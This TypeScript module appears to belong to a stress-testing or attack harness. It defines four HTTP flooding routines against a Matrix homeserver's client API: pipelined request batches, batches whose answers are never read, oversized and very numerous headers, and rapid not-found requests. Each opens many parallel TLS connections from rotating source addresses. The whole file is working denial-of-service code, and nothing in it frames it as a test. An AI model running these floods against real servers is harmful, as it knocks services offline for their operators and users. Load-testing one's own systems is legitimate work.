import { type Assault, flood, keepAt, openTls, sourceAddress } from './assault.ts';

const head = (assault: Assault, line: string): string => `${line} HTTP/1.1\r\nHost: ${assault.host}\r\n`;

/** Requests by the thousand on each connection, none of whose answers is waited for. */
export async function pipelining(assault: Assault): Promise<void> {
  const batch = `${head(assault, 'GET /_matrix/client/v3/pipelined')}\r\n`.repeat(200);
  await keepAt(assault, 16, async (lane) => {
    const line = await openTls(assault, sourceAddress(lane));
    if (line === undefined) return;
    line.socket.resume();
    await flood(assault, line, () => {
      assault.count('requests', 200);
      return batch;
    });
    line.socket.destroy();
  });
}

/** The same without reading an answer. */
export async function pipeliningUnread(assault: Assault): Promise<void> {
  const batch = `${head(assault, 'GET /_matrix/client/v3/big')}\r\n`.repeat(50);
  await keepAt(assault, 100, async (lane) => {
    await assault.pause(lane * 50);
    const line = await openTls(assault, sourceAddress(lane));
    if (line === undefined) return;
    line.socket.pause();
    line.socket.write(batch);
    assault.count('requests', 50);
    await Promise.race([line.ended, assault.ended]);
    line.socket.destroy();
  });
}

/** Headers of 31 KiB, and of more than are taken. */
export async function hugeHeaders(assault: Assault): Promise<void> {
  const start = head(assault, 'GET /_matrix/client/v3/headers');
  const bodies = [
    `${start}${'x-filler: 0123456789abcdef\r\n'.repeat(1_000)}\r\n`,
    `${start}x: ${'a'.repeat(31 * 1024)}\r\n\r\n`,
    `${start}x: ${'a'.repeat(64 * 1024)}\r\n\r\n`,
    `${start}${'a:b\r\n'.repeat(10_000)}\r\n`,
  ];
  await keepAt(assault, 16, async (lane) => {
    const line = await openTls(assault, sourceAddress(lane));
    if (line === undefined) return;
    line.socket.resume();
    let next = lane;
    await flood(assault, line, () => {
      assault.count('requests');
      return bodies[next++ % bodies.length]!;
    });
    line.socket.destroy();
  });
}

/** Requests for what does not exist, one after the other on each connection. */
export async function notFound(assault: Assault): Promise<void> {
  await keepAt(assault, 32, async (lane) => {
    const line = await openTls(assault, sourceAddress(lane));
    if (line === undefined) return;
    line.socket.on('data', () => {
      if (assault.over()) return;
      assault.count('requests');
      line.socket.write(`${head(assault, `GET /nothing/${lane}`)}\r\n`);
    });
    line.socket.write(`${head(assault, `GET /nothing/${lane}`)}\r\n`);
    await Promise.race([line.ended, assault.ended]);
    line.socket.destroy();
  });
}
